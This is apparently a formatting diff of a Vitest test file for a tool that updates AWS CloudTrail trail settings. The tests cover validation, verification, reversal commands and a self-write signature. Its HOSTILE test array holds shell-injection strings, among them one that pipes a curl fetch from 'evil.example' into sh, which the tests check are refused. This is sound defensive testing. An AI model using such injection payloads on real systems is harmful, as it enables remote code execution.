@@ -3,9 +3,7 @@ import { mockClient } from 'aws-sdk-client-mock';
 import * as v from 'valibot';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { stepOf, type SelfSignature, type Step } from '../../../shared/actions/action.js';
-import {
-  updateTrail, updateTrailSignature, type UpdateTrailParams, type UpdateTrailPrevious,
-} from '../../../shared/actions/cloudtrail-update-trail.js';
+import { updateTrail, updateTrailSignature, type UpdateTrailParams, type UpdateTrailPrevious } from '../../../shared/actions/cloudtrail-update-trail.js';
 import { reversalCommands, reversalLines, reversalOf } from '../../../shared/actions/reversal.js';
 import { SETTINGS } from '../../../shared/cloudtrail/trail.js';
 import { TrailSettingInputs } from '../../../shared/cloudtrail/trail-actions.js';
@@ -17,7 +15,14 @@ const cloudTrail = mockClient(CloudTrailClient);
 const ARN = 'arn:aws:cloudtrail:us-east-1:111122223333:trail/example-audit-trail';
 const RESOURCE = { type: 'AWS::CloudTrail::Trail', id: ARN, name: 'example-audit-trail', region: 'us-east-1' };
 const HOSTILE = ['x;curl${IFS}-s${IFS}evil.example|sh;#', 'arn:aws:cloudtrail:us-east-1:111122223333:trail/$(touch${IFS}pwned)', "it's-a-trail", ''];
-const HEALTHY = { Name: 'example-audit-trail', TrailARN: ARN, HomeRegion: 'us-east-1', LogFileValidationEnabled: true, IsMultiRegionTrail: true, IncludeGlobalServiceEvents: true };
+const HEALTHY = {
+  Name: 'example-audit-trail',
+  TrailARN: ARN,
+  HomeRegion: 'us-east-1',
+  LogFileValidationEnabled: true,
+  IsMultiRegionTrail: true,
+  IncludeGlobalServiceEvents: true,
+};
 
 const clients = { cloudTrailIn: (region: string) => new CloudTrailClient({ region, credentials: { accessKeyId: 'a', secretAccessKey: 'b' } }) };
 const regionsOf = (command: typeof UpdateTrailCommand | typeof GetTrailCommand) =>
@@ -25,7 +30,10 @@ const regionsOf = (command: typeof UpdateTrailCommand | typeof GetTrailCommand) 
 
 /** A validated step, acting in `region` unless the resource names its home Region. */
 const stepFor = (params: unknown, previous?: unknown, region = 'eu-west-1') =>
-  stepOf(updateTrail, { api: updateTrail.api, resource: RESOURCE, params, ...(previous === undefined ? {} : { previous }) }, region) as Step<UpdateTrailParams, UpdateTrailPrevious>;
+  stepOf(updateTrail, { api: updateTrail.api, resource: RESOURCE, params, ...(previous === undefined ? {} : { previous }) }, region) as Step<
+    UpdateTrailParams,
+    UpdateTrailPrevious
+  >;
 
 beforeEach(() => {
   cloudTrail.reset();
@@ -37,7 +45,11 @@ describe('CloudTrail.UpdateTrail params', () => {
   it('takes exactly the settings SETTINGS restores, as booleans', () => {
     const inputs = Object.values(SETTINGS).flatMap((s) => (s.restore ? [s.restore.input] : []));
     expect(Object.keys(TrailSettingInputs.entries)).toEqual(inputs);
-    expect(stepFor({ Name: ARN, EnableLogFileValidation: true, IsMultiRegionTrail: false }).params).toEqual({ Name: ARN, EnableLogFileValidation: true, IsMultiRegionTrail: false });
+    expect(stepFor({ Name: ARN, EnableLogFileValidation: true, IsMultiRegionTrail: false }).params).toEqual({
+      Name: ARN,
+      EnableLogFileValidation: true,
+      IsMultiRegionTrail: false,
+    });
   });
 
   it.each(HOSTILE)('refuses the hostile name %j before any call, as invalid', (name) => {
@@ -61,7 +73,7 @@ describe('CloudTrail.UpdateTrail params', () => {
 });
 
 describe('CloudTrail.UpdateTrail perform and verify', () => {
-  it('updates the trail in its home Region (the resource\'s), not the event\'s, and reads each setting back there', async () => {
+  it("updates the trail in its home Region (the resource's), not the event's, and reads each setting back there", async () => {
     cloudTrail.on(UpdateTrailCommand).resolves({});
     cloudTrail.on(GetTrailCommand).resolves({ Trail: HEALTHY });
     const step = stepFor({ Name: ARN, IsMultiRegionTrail: true, IncludeGlobalServiceEvents: true }, undefined, 'eu-west-1');
@@ -69,7 +81,9 @@ describe('CloudTrail.UpdateTrail perform and verify', () => {
     await updateTrail.perform(step, clients);
     const verification = await updateTrail.verify(step, clients);
 
-    expect(cloudTrail.commandCalls(UpdateTrailCommand).map((c) => c.args[0].input)).toEqual([{ Name: ARN, IsMultiRegionTrail: true, IncludeGlobalServiceEvents: true }]);
+    expect(cloudTrail.commandCalls(UpdateTrailCommand).map((c) => c.args[0].input)).toEqual([
+      { Name: ARN, IsMultiRegionTrail: true, IncludeGlobalServiceEvents: true },
+    ]);
     expect(await regionsOf(UpdateTrailCommand)).toEqual(['us-east-1']);
     expect(cloudTrail.commandCalls(GetTrailCommand).map((c) => c.args[0].input)).toEqual([{ Name: ARN }]);
     expect(await regionsOf(GetTrailCommand)).toEqual(['us-east-1']);
@@ -78,13 +92,18 @@ describe('CloudTrail.UpdateTrail perform and verify', () => {
 
   it('does not verify a setting that still reads off', async () => {
     cloudTrail.on(GetTrailCommand).resolves({ Trail: { ...HEALTHY, LogFileValidationEnabled: false } });
-    expect(await updateTrail.verify(stepFor({ Name: ARN, EnableLogFileValidation: true }), clients))
-      .toEqual({ ok: false, detail: 'GetTrail still reads LogFileValidationEnabled off' });
+    expect(await updateTrail.verify(stepFor({ Name: ARN, EnableLogFileValidation: true }), clients)).toEqual({
+      ok: false,
+      detail: 'GetTrail still reads LogFileValidationEnabled off',
+    });
   });
 
   it('verifies an undo against the values it wants (false), not against true', async () => {
     const undo = stepFor({ Name: ARN, EnableLogFileValidation: false, IsMultiRegionTrail: false });
-    cloudTrail.on(GetTrailCommand).resolvesOnce({ Trail: { ...HEALTHY, LogFileValidationEnabled: false, IsMultiRegionTrail: false } }).resolves({ Trail: { ...HEALTHY, IsMultiRegionTrail: false } });
+    cloudTrail
+      .on(GetTrailCommand)
+      .resolvesOnce({ Trail: { ...HEALTHY, LogFileValidationEnabled: false, IsMultiRegionTrail: false } })
+      .resolves({ Trail: { ...HEALTHY, IsMultiRegionTrail: false } });
 
     expect(await updateTrail.verify(undo, clients)).toEqual({ ok: true, detail: 'GetTrail reads LogFileValidationEnabled: false, IsMultiRegionTrail: false' });
     expect(await updateTrail.verify(undo, clients)).toEqual({ ok: false, detail: 'GetTrail still reads LogFileValidationEnabled on' });
@@ -97,20 +116,36 @@ describe('CloudTrail.UpdateTrail perform and verify', () => {
 
   it('classifies a trail gone on read-back, naming the API', async () => {
     cloudTrail.on(GetTrailCommand).rejects(Object.assign(new Error('gone'), { name: 'TrailNotFoundException', $metadata: { httpStatusCode: 400 } }));
-    await expect(updateTrail.verify(stepFor({ Name: ARN, EnableLogFileValidation: true }), clients)).rejects.toMatchObject({ kind: 'gone', api: 'CloudTrail.GetTrail' });
+    await expect(updateTrail.verify(stepFor({ Name: ARN, EnableLogFileValidation: true }), clients)).rejects.toMatchObject({
+      kind: 'gone',
+      api: 'CloudTrail.GetTrail',
+    });
   });
 });
 
 describe('CloudTrail.UpdateTrail reverse and command', () => {
   it('reverses to the settings read before, replacing the ones it set', () => {
-    const reversal = updateTrail.reverse(stepFor({ Name: ARN, EnableLogFileValidation: true, IsMultiRegionTrail: true }, { EnableLogFileValidation: false, IsMultiRegionTrail: false }));
+    const reversal = updateTrail.reverse(
+      stepFor({ Name: ARN, EnableLogFileValidation: true, IsMultiRegionTrail: true }, { EnableLogFileValidation: false, IsMultiRegionTrail: false }),
+    );
 
-    expect(reversal).toMatchObject({ kind: 'steps', steps: [{ type: updateTrail, action: {
-      api: 'CloudTrail.UpdateTrail', resource: RESOURCE,
-      params: { Name: ARN, EnableLogFileValidation: false, IsMultiRegionTrail: false },
-      previous: { EnableLogFileValidation: true, IsMultiRegionTrail: true },
-    } }] });
-    expect(reversalCommands(reversal)).toEqual([`aws cloudtrail update-trail --region 'us-east-1' --name '${ARN}' --no-enable-log-file-validation --no-is-multi-region-trail`]);
+    expect(reversal).toMatchObject({
+      kind: 'steps',
+      steps: [
+        {
+          type: updateTrail,
+          action: {
+            api: 'CloudTrail.UpdateTrail',
+            resource: RESOURCE,
+            params: { Name: ARN, EnableLogFileValidation: false, IsMultiRegionTrail: false },
+            previous: { EnableLogFileValidation: true, IsMultiRegionTrail: true },
+          },
+        },
+      ],
+    });
+    expect(reversalCommands(reversal)).toEqual([
+      `aws cloudtrail update-trail --region 'us-east-1' --name '${ARN}' --no-enable-log-file-validation --no-is-multi-region-trail`,
+    ]);
   });
 
   it('has nothing to put back when the earlier settings were not read', () => {
@@ -119,27 +154,45 @@ describe('CloudTrail.UpdateTrail reverse and command', () => {
     expect(updateTrail.reverse(stepFor({ Name: ARN, EnableLogFileValidation: true }, {}))).toEqual({ kind: 'none', why });
   });
 
-  it('gives the same reverse command from a log record as report and undo print (the home Region, not the record\'s)', () => {
+  it("gives the same reverse command from a log record as report and undo print (the home Region, not the record's)", () => {
     const live = liveRecords().trail;
     const reversal = reversalOf([updateTrail], { ...live, region: 'ap-southeast-2' }, live.actions[0]!);
-    expect(reversalCommands(reversal)).toEqual(["aws cloudtrail update-trail --region 'eu-west-1' --name 'arn:aws:cloudtrail:eu-west-1:111122223333:trail/org-trail' --no-enable-log-file-validation --no-is-multi-region-trail"]);
+    expect(reversalCommands(reversal)).toEqual([
+      "aws cloudtrail update-trail --region 'eu-west-1' --name 'arn:aws:cloudtrail:eu-west-1:111122223333:trail/org-trail' --no-enable-log-file-validation --no-is-multi-region-trail",
+    ]);
     expect(reversalLines([updateTrail], live)).toEqual([`To reverse: ${reversalCommands(reversal)[0]}`, expect.stringContaining('Pasted as is')]);
     expect(DONE_ACTIONS.updateTrail.previous).toEqual({ EnableLogFileValidation: false, IsMultiRegionTrail: false });
   });
 
   it('gives each setting as a flag, turned on or off, in SETTINGS order', () => {
     const step = stepFor({ Name: 'example-audit-trail', IncludeGlobalServiceEvents: true, EnableLogFileValidation: false, IsMultiRegionTrail: true });
-    expect(updateTrail.command(step)).toBe("aws cloudtrail update-trail --region 'us-east-1' --name 'example-audit-trail' --no-enable-log-file-validation --is-multi-region-trail --include-global-service-events");
-    expect(updateTrail.describe(step)).toBe('set EnableLogFileValidation=false, IsMultiRegionTrail=true, IncludeGlobalServiceEvents=true on trail example-audit-trail');
+    expect(updateTrail.command(step)).toBe(
+      "aws cloudtrail update-trail --region 'us-east-1' --name 'example-audit-trail' --no-enable-log-file-validation --is-multi-region-trail --include-global-service-events",
+    );
+    expect(updateTrail.describe(step)).toBe(
+      'set EnableLogFileValidation=false, IsMultiRegionTrail=true, IncludeGlobalServiceEvents=true on trail example-audit-trail',
+    );
   });
 
   it.each(HOSTILE)('gives no command for the hostile name %j even when handed a step that skipped validation', (name) => {
-    const command = updateTrail.command({ api: updateTrail.api, resource: RESOURCE, params: { Name: name, EnableLogFileValidation: true }, previous: undefined, region: 'us-east-1' });
+    const command = updateTrail.command({
+      api: updateTrail.api,
+      resource: RESOURCE,
+      params: { Name: name, EnableLogFileValidation: true },
+      previous: undefined,
+      region: 'us-east-1',
+    });
     expect(command).toMatch(/^no command: the (trail name in the event is not a valid trail name|event names no trail name)$/);
   });
 
   it('needs cloudtrail:UpdateTrail and retriggers the rule (an undo turns settings off)', () => {
-    expect(updateTrail).toMatchObject({ api: 'CloudTrail.UpdateTrail', iam: 'cloudtrail:UpdateTrail', clients: ['cloudTrailIn'], retriggers: true, signature: updateTrailSignature });
+    expect(updateTrail).toMatchObject({
+      api: 'CloudTrail.UpdateTrail',
+      iam: 'cloudtrail:UpdateTrail',
+      clients: ['cloudTrailIn'],
+      retriggers: true,
+      signature: updateTrailSignature,
+    });
     expect(updateTrail.api).toBe(updateTrailSignature.api); // a literal in the action, for tree-shaking
   });
 });
@@ -149,7 +202,7 @@ describe('CloudTrail.UpdateTrail signature', () => {
   const signature: SelfSignature = updateTrailSignature;
   const own = (request: unknown) => signature.isOwnWrite(request, caller);
 
-  it('is its own restore: the recorded request of trailguard\'s UpdateTrail', () => {
+  it("is its own restore: the recorded request of trailguard's UpdateTrail", () => {
     const sample = loadSample('trail-logging', 'ignored.update-trail-restore-by-remediator') as { detail: { requestParameters: unknown } };
     expect(updateTrailSignature).toMatchObject({ api: 'CloudTrail.UpdateTrail', eventName: 'UpdateTrail' });
     expect(own(sample.detail.requestParameters)).toBe(true);
@@ -162,7 +215,7 @@ describe('CloudTrail.UpdateTrail signature', () => {
     ['another field (a KMS key)', { name: ARN, enableLogFileValidation: true, kmsKeyId: '' }],
     ['only the name', { name: ARN }],
     ['no name', { enableLogFileValidation: true }],
-    ['the SDK spelling, not CloudTrail\'s record', { Name: ARN, EnableLogFileValidation: true }],
+    ["the SDK spelling, not CloudTrail's record", { Name: ARN, EnableLogFileValidation: true }],
     ['not an object', [ARN]],
     ['null', null],
   ])('is not its own with %s', (_, request) => {
